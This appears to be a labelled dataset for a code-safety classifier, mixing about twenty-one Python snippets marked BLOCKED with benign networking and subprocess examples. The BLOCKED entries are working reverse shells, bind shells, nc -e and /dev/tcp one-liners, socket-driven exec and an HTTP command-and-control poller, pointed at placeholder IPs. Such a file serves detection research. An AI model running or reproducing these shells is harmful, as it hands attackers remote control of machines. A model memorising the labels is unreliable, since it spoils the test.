#@ socket_dup2_sh BLOCKED t
import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.1", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
#@ pty_spawn_helper BLOCKED t
import os
import pty
import socket


def connect(host, port):
    sock = socket.socket()
    sock.connect((host, port))
    for fd in (0, 1, 2):
        os.dup2(sock.fileno(), fd)
    pty.spawn("/bin/bash")


if __name__ == "__main__":
    connect("198.51.100.7", 9001)
#@ popen_pipe_loop BLOCKED v
import socket
import subprocess

HOST, PORT = "203.0.113.2", 443
s = socket.create_connection((HOST, PORT))
while True:
    cmd = s.recv(1024).decode()
    if cmd.strip() == "exit":
        break
    out = subprocess.run(cmd, shell=True, capture_output=True)
    s.sendall(out.stdout + out.stderr)
#@ argv_host_port BLOCKED t
import os, socket, sys, subprocess

def main():
    host = sys.argv[1]
    port = int(sys.argv[2])
    s = socket.socket()
    s.connect((host, port))
    proc = subprocess.Popen(["/bin/bash", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
    proc.wait()

main()
#@ bind_shell_server BLOCKED t
import socket, subprocess

srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 31337))
srv.listen(1)
conn, _ = srv.accept()
while True:
    data = conn.recv(4096)
    if not data:
        break
    result = subprocess.check_output(data, shell=True, stderr=subprocess.STDOUT)
    conn.send(result)
#@ os_system_nc BLOCKED v
import os
os.system("nc -e /bin/sh 203.0.113.3 4444")
#@ subprocess_devtcp BLOCKED t
import subprocess
ip = "203.0.113.4"
port = 8080
subprocess.Popen(f"bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'", shell=True)
#@ asyncio_shell BLOCKED t
import asyncio


async def handle(reader, writer):
    while True:
        line = await reader.readline()
        if not line:
            break
        proc = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)
        out, _ = await proc.communicate()
        writer.write(out)
        await writer.drain()


async def main():
    reader, writer = await asyncio.open_connection("203.0.113.5", 7000)
    await handle(reader, writer)

asyncio.run(main())
#@ threading_pipes BLOCKED v
import socket, subprocess, threading

def pipe(src, dst):
    while True:
        data = src.recv(1024) if hasattr(src, "recv") else src.read(1)
        if not data:
            break
        dst.write(data) if hasattr(dst, "write") else dst.send(data)

s = socket.socket()
s.connect(("203.0.113.6", 4242))
p = subprocess.Popen(["cmd.exe" if False else "/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
threading.Thread(target=pipe, args=(s, p.stdin), daemon=True).start()
pipe(p.stdout, s)
#@ env_configured_host BLOCKED t
import os, socket, pty

host = os.environ.get("RHOST", "203.0.113.7")
port = int(os.environ.get("RPORT", "4444"))
s = socket.socket()
s.connect((host, port))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("sh")
#@ retry_loop_connect BLOCKED t
import socket, subprocess, time, os

def shell(sock):
    os.dup2(sock.fileno(), 0)
    os.dup2(sock.fileno(), 1)
    os.dup2(sock.fileno(), 2)
    subprocess.call(["/bin/bash", "-i"])

while True:
    try:
        s = socket.socket()
        s.connect(("203.0.113.8", 5555))
        shell(s)
    except OSError:
        time.sleep(10)
#@ udp_shell BLOCKED v
import socket, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"ready", ("203.0.113.9", 5353))
while True:
    data, addr = s.recvfrom(4096)
    out = subprocess.getoutput(data.decode())
    s.sendto(out.encode(), addr)
#@ socketserver_exec BLOCKED t
import socketserver
import subprocess


class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            self.wfile.write(subprocess.check_output(line.decode(), shell=True))


socketserver.TCPServer(("0.0.0.0", 9999), Handler).serve_forever()
#@ os_popen_remote BLOCKED t
import os, socket
s = socket.socket()
s.connect(("203.0.113.10", 1234))
while 1:
    c = s.recv(1024).decode()
    s.send(os.popen(c).read().encode())
#@ exec_python_over_socket BLOCKED v
import socket
s = socket.create_connection(("203.0.113.11", 6000))
code = s.recv(65536).decode()
exec(code)
#@ paramiko_reverse BLOCKED t
import paramiko, subprocess
client = paramiko.SSHClient()
client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
client.connect("203.0.113.12", username="u", password="p")
chan = client.get_transport().open_session()
while True:
    command = chan.recv(1024).decode()
    chan.send(subprocess.check_output(command, shell=True))
#@ os_system_python_one_liner BLOCKED t
import os
os.system("""python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.13",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'""")
#@ ssl_wrapped_shell BLOCKED v
import socket, ssl, subprocess
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
raw = socket.create_connection(("203.0.113.14", 443))
s = ctx.wrap_socket(raw, server_hostname="x")
while True:
    cmd = s.recv(2048)
    if not cmd:
        break
    p = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    s.send(p.stdout.read() + p.stderr.read())
#@ class_based_client BLOCKED t
import socket
import subprocess


class Agent:
    def __init__(self, host, port):
        self.sock = socket.socket()
        self.sock.connect((host, port))

    def run(self):
        while True:
            cmd = self.sock.recv(1024).decode()
            if not cmd:
                return
            self.sock.send(subprocess.run(cmd, shell=True, capture_output=True).stdout)


Agent("203.0.113.15", 8443).run()
#@ websocket_shell BLOCKED t
import subprocess
import websocket

ws = websocket.create_connection("ws://203.0.113.16:8765/")
while True:
    cmd = ws.recv()
    ws.send(subprocess.getoutput(cmd))
#@ http_poll_command BLOCKED v
import time, subprocess, requests

C2 = "http://203.0.113.17/task"
while True:
    task = requests.get(C2, timeout=10).text
    if task:
        out = subprocess.run(task, shell=True, capture_output=True, text=True)
        requests.post(C2, data={"out": out.stdout}, timeout=10)
    time.sleep(5)
#@ generated_dup2 HIGH t generated
import socket, os, subprocess
s = socket.socket()
s.connect(("127.0.0.1", 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
subprocess.call(["/bin/sh"])
#@ http_get_json benign t
import requests

resp = requests.get("https://api.example.com/status", timeout=10)
resp.raise_for_status()
print(resp.json()["state"])
#@ socket_port_check benign t
import socket

def is_open(host, port, timeout=2.0):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(timeout)
        return s.connect_ex((host, port)) == 0

for port in (22, 80, 443):
    print(port, is_open("example.com", port))
#@ echo_server_local benign v
import socket

with socket.socket() as srv:
    srv.bind(("127.0.0.1", 9000))
    srv.listen()
    conn, _ = srv.accept()
    with conn:
        while data := conn.recv(1024):
            conn.sendall(data.upper())
#@ subprocess_ls benign t
import subprocess
result = subprocess.run(["ls", "-la"], capture_output=True, text=True, check=True)
print(result.stdout)
#@ flask_app benign t
from flask import Flask, jsonify

app = Flask(__name__)


@app.route("/health")
def health():
    return jsonify(ok=True)


if __name__ == "__main__":
    app.run(host="127.0.0.1", port=5000)
#@ pty_local_program benign v
import pty
import sys

# record a terminal session of the local test program
with open("session.log", "wb") as log:
    def read(fd):
        import os
        data = os.read(fd, 1024)
        log.write(data)
        return data
    pty.spawn([sys.executable, "interactive_demo.py"], read)
#@ asyncio_http_server benign t
import asyncio


async def handle(reader, writer):
    await reader.readline()
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    await writer.drain()
    writer.close()


async def main():
    server = await asyncio.start_server(handle, "127.0.0.1", 8080)
    async with server:
        await server.serve_forever()

asyncio.run(main())
#@ socket_send_metrics benign t
import socket, time

def send_metric(name, value, host="localhost", port=2003):
    with socket.create_connection((host, port), timeout=3) as s:
        s.sendall(f"{name} {value} {int(time.time())}\n".encode())

send_metric("jobs.done", 42)
#@ subprocess_git_loop benign v
import subprocess
from pathlib import Path

for repo in Path("repos").iterdir():
    if (repo / ".git").exists():
        subprocess.run(["git", "-C", str(repo), "pull", "--ff-only"], check=False)
#@ paramiko_run_uptime benign t
import paramiko

client = paramiko.SSHClient()
client.load_system_host_keys()
client.connect("staging.example.com", username="deploy")
_, stdout, _ = client.exec_command("uptime")
print(stdout.read().decode())
client.close()
#@ websocket_chat_client benign t
import json
import websocket

ws = websocket.create_connection("wss://chat.example.com/socket")
ws.send(json.dumps({"type": "hello"}))
print(ws.recv())
ws.close()
#@ threads_download benign v
import threading
import requests

URLS = ["https://example.com/a.json", "https://example.com/b.json"]
results = {}

def fetch(url):
    results[url] = requests.get(url, timeout=10).status_code

threads = [threading.Thread(target=fetch, args=(u,)) for u in URLS]
for t in threads:
    t.start()
for t in threads:
    t.join()
print(results)
#@ socketserver_echo benign t
import socketserver


class Echo(socketserver.BaseRequestHandler):
    def handle(self):
        self.request.sendall(self.request.recv(1024))


with socketserver.TCPServer(("127.0.0.1", 9999), Echo) as srv:
    srv.handle_request()
#@ os_dup2_logfile benign t
import os
import sys

log = open("run.log", "a")
os.dup2(log.fileno(), sys.stdout.fileno())
print("now logging to run.log")
#@ http_poll_status benign v
import time
import requests

while True:
    r = requests.get("https://api.example.com/jobs/42", timeout=10)
    if r.json()["state"] == "done":
        break
    time.sleep(5)
print("job finished")
#@ ssl_client_get benign t
import socket
import ssl

ctx = ssl.create_default_context()
with socket.create_connection(("example.com", 443)) as raw:
    with ctx.wrap_socket(raw, server_hostname="example.com") as s:
        s.sendall(b"HEAD / HTTP/1.1\r\nHost: example.com\r\n\r\n")
        print(s.recv(200))
#@ subprocess_shell_fixed benign t
import subprocess
out = subprocess.run("ls *.csv | wc -l", shell=True, capture_output=True, text=True)
print(out.stdout)
#@ udp_client_dns benign v
import socket
print(socket.gethostbyname("example.com"))
#@ multiprocessing_pool benign t
from multiprocessing import Pool

def square(x):
    return x * x

with Pool(2) as p:
    print(p.map(square, range(10)))
#@ zmq_worker benign t
import zmq

ctx = zmq.Context()
sock = ctx.socket(zmq.REP)
sock.bind("tcp://127.0.0.1:5555")
msg = sock.recv_json()
sock.send_json({"result": sum(msg["values"])})
